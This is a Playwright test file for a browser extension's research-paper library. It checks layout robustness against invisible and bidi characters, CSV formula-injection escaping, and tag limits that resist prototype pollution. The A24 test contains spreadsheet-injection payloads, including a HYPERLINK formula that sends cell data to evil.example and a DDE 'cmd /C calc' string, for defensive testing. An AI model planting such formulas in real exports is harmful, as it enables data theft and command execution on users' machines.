/** FAULTS A07, A24, A26: texts that would break rows, formulas in exports, and tags without measure. */
import type { Page } from '@playwright/test';
import { LIST, tagged } from './harness/annotated.ts';
import { addSample, savePapers as saveRecords } from './harness/digests.ts';
import { expect, test } from './harness/extension.ts';
import { ask, done, keyOf, newRequest, openLibraryDesk, paper, rowsOf, savePapers } from './harness/library.ts';
import { endOfJob } from './harness/library-jobs.ts';
import { stageText } from './harness/papers-store.ts';

const MARKS = '\u0335\u0321'.repeat(960);
/** Each title, and its plain form: what a person would type. */
const TITLES: readonly (readonly [title: string, plain: string])[] = [
  ['Kraken One \u202Erorrim eht ni\u202C and out of it', 'kraken one and out'],
  ['Kraken\u200B Two\u200D wi\u00ADth no\uFEFF width', 'kraken two width'],
  [`Kraken Three Za${MARKS}lgo in a title`, 'kraken three zalgo'],
  ['Kraken Four \u2067\u2066\u2068 isolates that nobody ends', 'kraken four isolates'],
];
const CONTROLS = /[\u202A-\u202E\u2066-\u2069\u200B\uFEFF]/;

const heights = (page: Page, selector: string): Promise<readonly number[]> =>
  page
    .locator(selector)
    .evaluateAll((all) => [...new Set(all.map((one) => Math.round(one.getBoundingClientRect().height)))]);

test('A07: turned, invisible and piled-up signs change the height of no row, note or chip; the plain words find them', async ({
  ext,
}) => {
  const desk = await openLibraryDesk(ext);
  await addSample(desk);
  await savePapers(desk, 1, 4);
  // Close to papers of the page, so that notes tell of them in hints.
  const about = ext.web.papers.filter(({ title, abstract }) => /offline/i.test(`${title} ${abstract}`)).slice(0, 4);
  await saveRecords(
    desk,
    about.map((one, i) => ({ ...one, id: `2511.0800${i}` })),
  );
  const noteHeights = async (): Promise<Readonly<Record<string, number>>> => {
    const page = await ext.open(LIST);
    await tagged(page).toBe(true);
    await expect(page.locator('scholion-note .hint').first()).toBeVisible();
    const found = await page
      .locator('scholion-note')
      .evaluateAll((all) =>
        all.map((host) => [host.getAttribute('data-paper') ?? '', host.getBoundingClientRect().height] as const),
      );
    await page.close();
    return Object.fromEntries(found);
  };
  const rowHeights = async (): Promise<readonly (readonly number[])[]> => {
    const list = await ext.open(LIST);
    await tagged(list).toBe(true);
    const query = `?tab=${await ext.tabId(list)}`;
    const found: (readonly number[])[] = [];
    for (const name of ['popup', 'panel'] as const) {
      const view = await ext.open(name, query);
      await expect(view.locator('.pr .tag').first()).toBeVisible();
      found.push(await heights(view, '.pr'));
      expect(await view.locator('body').innerText()).not.toMatch(CONTROLS);
      await view.close();
    }
    await list.close();
    return found;
  };
  const [before, rowsBefore] = [await noteHeights(), await rowHeights()];
  const hostile = TITLES.map(([title], i) => ({
    ...(about[i % about.length] ?? paper(1)),
    id: `2511.0900${i}`,
    title,
  }));
  await saveRecords(desk, hostile as never);
  // And one that the page itself lists.
  await saveRecords(desk, [{ ...(ext.web.papers[0] as never as object), title: TITLES[2]?.[0] ?? '' }] as never);
  expect(await noteHeights()).toEqual(before);
  expect(await rowHeights()).toEqual(rowsBefore);

  const page = await ext.open('library');
  await expect(page.getByText('Kraken Four').first()).toBeVisible();
  expect(await heights(page, '[role="row"][aria-rowindex]:has([role="gridcell"])')).toHaveLength(1);
  expect(await page.locator('[role="grid"]').innerText()).not.toMatch(CONTROLS);
  for (const [, plain] of TITLES) {
    const query = { text: plain, shelf: 'library', sort: 'relevance', descending: true } as const;
    const { rows } = await done(desk, 'library.list', { query, from: 0, count: 5, facets: false });
    expect(rows[0]?.row.title.toLowerCase().startsWith(plain.slice(0, 6)), plain).toBe(true);
  }
  await page.getByRole('button', { name: 'Cards' }).click();
  await expect(page.getByText('Kraken Four').first()).toBeVisible();
  const list = await ext.open(LIST);
  await tagged(list).toBe(true);
  const popup = await ext.openPopup(list);
  await expect(popup.locator('.pr').first()).toBeVisible();
  await popup.getByRole('button', { name: /^Library/ }).click();
  await expect(popup.locator('.pr[data-row]').filter({ hasText: 'Kraken Four' })).toBeVisible();
  expect(await popup.locator('body').innerText()).not.toMatch(CONTROLS);
});

test('A24: formulas in every field leave as text in the exported CSV, and come back as they were', async ({ ext }) => {
  const FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    '@SUM(1,2)',
    "-2+3+cmd|' /C calc'!A0",
    '+1+1',
    '\t=1+1',
    "'=kept",
  ];
  const desk = await openLibraryDesk(ext);
  const papers = FORMULAS.map((formula, n) => ({
    ids: [`doi:10.1000/formula.${n}`],
    title: `${formula} as a title`,
    authors: [`${formula} Author`],
    venue: formula.trim(),
    abstract: `${formula} abstract`,
  })) as never; // ids are branded; the protocol checks them
  await done(desk, 'library.save', { request: newRequest(), papers });
  await done(desk, 'library.edit', {
    request: newRequest(),
    keys: ['doi:10.1000/formula.0'],
    edits: [{ do: 'tag', tag: '=TAG()', on: true }],
  });
  const query = { text: '', shelf: 'library', sort: 'added', descending: true } as const;
  const options = { format: 'csv', abstracts: true, notes: true } as const;
  const { job } = await done(desk, 'library.export', { request: newRequest(), choice: { query, except: [] }, options });
  const { result } = await endOfJob(desk, job);
  const staged = result?.file?.staged ?? '';
  const csv = await desk.evaluate(async (name) => {
    const folder = await (await navigator.storage.getDirectory()).getDirectoryHandle('staged');
    return (await (await folder.getFileHandle(name)).getFile()).text();
  }, staged);
  // No cell begins with what a spreadsheet reads as a formula.
  const cells = [...csv.replaceAll('\r\n', '\n').matchAll(/(?<=^|,|\n)(?:"((?:[^"]|"")*)"|([^,\n"]*))/g)].map(
    (m) => m[1] ?? m[2] ?? '',
  );
  expect(cells.length).toBeGreaterThan(FORMULAS.length * 4);
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
  const before = await rowsOf(desk, 'papers');
  await stageText(desk, 'back', csv);
  const preview = await done(desk, 'library.previewImport', { staged: 'back', name: 'back.csv' });
  expect(preview).toMatchObject({ format: 'csv', total: FORMULAS.length, fresh: 0, known: FORMULAS.length });
  expect(new Set(preview.sample.map(({ title }) => title))).toEqual(
    new Set(before.map((row) => String(row['title']).trim())),
  );
  expect(preview.tags).toContain('=TAG()');
});

test('A26: tags without measure: at most 64 of 64 signs, the others are told; reserved names are ordinary', async ({
  ext,
}) => {
  const desk = await openLibraryDesk(ext);
  await savePapers(desk, 1, 2);
  const edit = (key: string, tags: readonly string[]) =>
    done(desk, 'library.edit', {
      request: newRequest(),
      keys: [key],
      edits: tags.map((tag) => ({ do: 'tag', tag, on: true }) as const),
    });
  const ODD = ['__proto__', 'constructor', 'toString', 'Case', '👩‍👩‍👧‍👦', '  two   words  '];
  const odd = await edit(keyOf(1), ODD);
  expect(odd.refused ?? []).toEqual([]);
  const refused: string[] = [];
  for (let n = 0; n < 10_000; n += 50) {
    const tags = Array.from({ length: 50 }, (_, i) => `tag number ${n + i}`);
    refused.push(...((await edit(keyOf(2), tags)).refused ?? []).map(({ why }) => why));
    if (n === 200) break; // the paper is full since long; the next thousands are answered alike
  }
  expect(new Set(refused)).toEqual(new Set(['too-many']));
  for (const length of [65, 100_000]) {
    const edits = [{ do: 'tag', tag: 'x'.repeat(length), on: true }] as const;
    const reply = await ask(desk, 'library.edit', { request: newRequest(), keys: [keyOf(1)], edits });
    expect(reply).toMatchObject({ ok: false, error: 'bad-request' });
  }
  const rows = new Map((await rowsOf(desk, 'papers')).map((row) => [row['key'], row['tags'] as readonly string[]])); // saved rows
  expect(rows.get(keyOf(2))).toHaveLength(64);
  expect(new Set(rows.get(keyOf(1)))).toEqual(new Set(ODD.map((tag) => tag.trim().replace(/\s+/g, ' '))));
  const page = await ext.open('library');
  const row = page.getByRole('row').filter({ hasText: 'Subject Number 1 ' });
  await expect(row).toBeVisible();
  await expect(page.getByRole('row').filter({ hasText: 'Subject Number 2 ' })).toBeVisible();
  expect(await heights(page, '[role="row"][aria-rowindex]:has([role="gridcell"])')).toHaveLength(1);
  const query = { text: 'tag:__proto__', shelf: 'library', sort: 'added', descending: true } as const;
  const found = await done(desk, 'library.list', { query, from: 0, count: 5, facets: true });
  expect(found.total).toBe(1);
  expect(found.facets?.tags.map(({ name }) => name)).toContain('__proto__');
  expect(await page.evaluate('({}).polluted === undefined && Object.prototype.hasOwnProperty.length === 1')).toBe(true);
});
